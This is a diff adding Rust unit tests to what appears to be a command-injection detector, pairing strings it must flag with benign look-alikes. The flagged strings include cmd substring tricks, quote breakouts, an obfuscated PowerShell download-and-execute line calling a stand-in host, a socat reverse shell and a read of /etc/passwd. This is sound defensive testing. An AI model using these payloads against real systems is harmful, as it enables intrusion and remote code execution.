@@ -1063,3 +1063,164 @@ fn capitalised_globs_match_no_program() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+#[test]
+fn cmd_variables_and_substring_expansions() {
+    for v in [
+        "x & %COMSPEC% /c whoami",
+        "127.0.0.1 | %ComSpec%",
+        "%PROGRAMFILES:~10,1%",
+        "ping%PROGRAMFILES:~10,1%127.0.0.1",
+        "c%COMSPEC:~-7,1%d /c dir",
+        "x&%ProgramFiles(x86):~-3%",
+        "%25PROGRAMFILES%3A~10%2C1%25",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        // to cmd a `;` is text: this extends a list
+        "C:\\>set PATH=C:\\Program Files\\Python 3.9;%PATH%\nC:\\>python",
+        "set PATH=%PATH%;C:\\bin",
+        "%USERPROFILE%\\Documents",
+        "100%: ~10,1%",
+        "Discount 50% :~ 10%",
+        "%d:~%",
+        "50% off; %PATH% stays",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn quote_breakouts_that_rebalance_the_line() {
+    for v in [
+        "hello'; date #",
+        "hello' | groups; '",
+        "report.pdf\"\ngroups \"",
+        "127.0.0.1\"\nsleep 10 \"",
+        "x' && last #",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "It's 'fine'; last one",
+        "He said 'no'; date was cancelled",
+        "Rock 'n' roll; groups welcome",
+        "Tom's diner | last call",
+        "I'd say \"yes\" & groups",
+        "\"Hello\"; date night",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn bare_printers_after_an_address_or_a_leading_line_break() {
+    for v in [
+        "8.8.8.8; set",
+        "127.0.0.1 & groups",
+        "example.org | last",
+        "\ndate",
+        "%0agroups",
+        "\r\nver",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "amazon.com & more",
+        "8.8.8.8 | more",
+        "Server 10.0.0.1; last checked today",
+        "john@example.com; date",
+        "10.0.0.1 and more",
+        "\nMore info below",
+        "\nmore",
+        "\nDate: 2024-01-01",
+        "\nset up your account",
+        "\necho chamber",
+        "\nlast name",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn powershell_escapes_and_call_operators() {
+    for v in [
+        "I`E`X (iwr http://a.example/x)",
+        "x; Invoke-`Expression whoami",
+        "x | &(gcm i*x) 'whoami'",
+        "&(Get-Command I*X) 'id'",
+        "x; .('ie'+'x') 'whoami'",
+        "x & & ('who'+'ami')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "R&(D) department",
+        "Apple & (Orange)",
+        "f(x) & (g)",
+        "'hello' + 'world'",
+        "(\"a\" + \"b\")",
+        "AES (GCM) & (CBC)",
+        "mode: (gcm 128)",
+        "Use `sort` here",
+        "the `cat` command",
+        "x`y`z",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn command_syntax_of_windows_tools_socat_and_timeout() {
+    for v in [
+        "whoami /priv",
+        "ipconfig /flushdns",
+        "wmic process list",
+        "wmic /node:10.0.0.2 os get caption",
+        "socat tcp:10.0.0.1:4444 exec:sh",
+        "start calc.exe",
+        "timeout 5 ls",
+        "127.0.0.1; timeout 5 id",
+        "eval 'id'",
+        "f+&+dir",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Whoami / the song",
+        "wmic is deprecated",
+        "wmic process list is deprecated",
+        "socat is a relay",
+        "start the car",
+        "start here.exe now",
+        "timeout 5 seconds",
+        "timeout 30 more minutes",
+        "Set a timeout 5 s",
+        "eval the expression",
+        "salt+&+pepper",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn unicode_escaped_values_are_decoded() {
+    for v in [
+        "\\u003b\\u0020id",
+        "127.0.0.1\\u007cwhoami",
+        "\\u00250Aid\\u00250A",
+        "x\\u0026\\u0026 cat /etc/passwd",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "\\u0048\\u0065\\u006c\\u006c\\u006f",
+        "caf\\u00e9 & bar",
+        "\\u0041T&T",
+        "name\\u003a John; age 30",
+        "{\"text\": \"\\u003cb\\u003ehi\\u003c/b\\u003e\"}",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
